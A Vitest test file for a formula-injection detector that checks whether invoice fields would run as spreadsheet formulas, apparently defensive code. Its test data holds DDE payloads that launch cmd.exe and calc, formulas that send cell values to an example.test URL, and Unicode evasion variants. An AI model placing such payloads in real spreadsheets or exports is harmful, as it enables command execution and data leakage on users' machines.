import { describe, expect, test } from "vitest";
import { isSpreadsheetFormula } from "../../../../lib/invoice-files/parse/spreadsheet-formula.ts";

describe("isSpreadsheetFormula", () => {
  test.each([
    "=1+1",
    "=",
    "=Care Co",
    "==1",
    '=HYPERLINK("http://example.test/?x="&A1,"Invoice")',
    '=WEBSERVICE("http://example.test")',
    '=IMPORTXML(CONCAT("http://example.test/?v=",A2),"//a")',
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-cmd|'/C calc'!A0",
    "@cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "+MSEXCEL|'\\..\\..\\cmd.exe /C calc'!''",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "@SUM(1+9)",
    '+HYPERLINK("http://example.test")',
    '-IMPORTDATA("http://example.test")',
    "+_xlfn.CONCAT(A1)",
    "-(SUM(A1))",
    "+1+1",
    "-1+1",
    "--1",
    "+61",
    "-5%*2",
    "@A1",
    "-$A$1",
    "+A1:B9",
    "-A:A",
    "+Sheet1!A1",
    "-'Other file'!$B$2",
    '+"a"&"b"',
    "-x",
    "@x",
    "\tx",
    "\rx",
    "\t=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\n+cmd|'/C calc'!A0",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u0000=1+1",
    '"=1+1',
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "＋ＳＵＭ（１）",
    " ＝cmd|'/C calc'!A0",
    "﹦1+1",
  ])("isSpreadsheetFormula says that a spreadsheet runs %j", (text) => {
    expect(isSpreadsheetFormula(text)).toBe(true);
  });

  test.each([
    "",
    "-",
    "+",
    "@",
    "--",
    "- -",
    "+Plus Therapy",
    "@Home Care",
    "@Home",
    "@cmd",
    "-Care Co",
    "＠Home Care",
    "＋Plus",
    "+Plus Therapy (Sydney)",
    "+Plus Therapy(NSW)",
    "@Home: Care & Support",
    "+24/7 Care",
    "-1st Choice",
    "+1 Health",
    "+A & B Care",
    '+"Plus" Therapy',
    '+"Plus"',
    "@Home | Care",
    "-Care! Co",
    "+61 412 345 678",
    "+61412345678",
    "-12.50",
    "-$1,012.50",
    " -12.50 ",
    "'=1+1",
    "'Alofa Tupou",
    "Care = Co",
    "a@b.test",
    "1+1",
    "$5.00",
    "(02) 9999 0000",
    '"Sunny" Care',
    "INV-1",
    "—",
  ])("isSpreadsheetFormula says that a spreadsheet doesn't run %j", (text) => {
    expect(isSpreadsheetFormula(text)).toBe(false);
  });

  test.each(["-", "+", "@", "(", "1", "+1", "-A1", "|", "!", "a(", "\u200b", '"'])(
    "answers for two million letters of %j within the test's time",
    (letter) => {
      for (const end of ["", " x", "="]) {
        for (const begin of ["", "-", "-1", "=", " "])
          expect(isSpreadsheetFormula(begin + letter.repeat(2_000_000) + end)).toBeTypeOf("boolean");
      }
    },
  );

  test("isSpreadsheetFormula needs no longer for a long sum that ends in a word than for a short one", () => {
    expect(isSpreadsheetFormula(`-1${" - 1".repeat(2000)}`)).toBe(true);
    expect(isSpreadsheetFormula(`-1${" - 1".repeat(2000)} hours`)).toBe(false);
  });
});
